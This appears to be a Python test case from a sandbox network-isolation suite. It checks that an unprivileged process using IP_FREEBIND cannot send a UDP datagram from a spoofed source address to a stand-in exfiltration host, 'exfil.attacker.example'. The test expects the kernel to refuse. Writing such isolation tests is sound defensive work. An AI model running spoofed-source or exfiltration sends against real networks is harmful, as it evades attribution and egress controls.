# backends: all
# what: source-address spoofing without privileges: IP_FREEBIND, bind to 198.19.250.1 (not ours), a UDP datagram to exfil.attacker.example:9
# The kernel routes a datagram from an address the host does not have
# only for IP_TRANSPARENT sockets (CAP_NET_ADMIN): ENETUNREACH, nothing is
# sent (gVisor already refuses the bind: EADDRNOTAVAIL). A sandbox whose
# kernel did send it would meet the anti-spoof rule (spoofed_source) and
# fail this check.
# expect-stdout: ^REFUSED: .*Errno (101|99)\]
import socket

IP_FREEBIND = 15
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
    s.bind(("198.19.250.1", 4243))
    s.sendto(b"spoofed", ("198.18.1.66", 9))
    print("SENT from", s.getsockname())
except Exception as e:
    print("REFUSED:", type(e).__name__, e)
